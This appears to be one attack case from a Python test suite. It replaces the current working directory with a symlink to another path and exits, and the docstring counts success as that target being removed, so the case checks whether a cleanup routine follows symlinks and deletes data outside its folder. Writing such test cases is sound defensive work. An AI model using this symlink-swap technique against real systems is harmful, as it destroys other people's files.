"""Success: the own folder, replaced by a link, has what it points to removed."""

import os

from kit import tries


def attack(a):
    here = os.getcwd()

    def replace():
        os.rename(here, here + "-old")
        os.symlink(a["problems"], here)
        os._exit(0)

    return tries(replace)
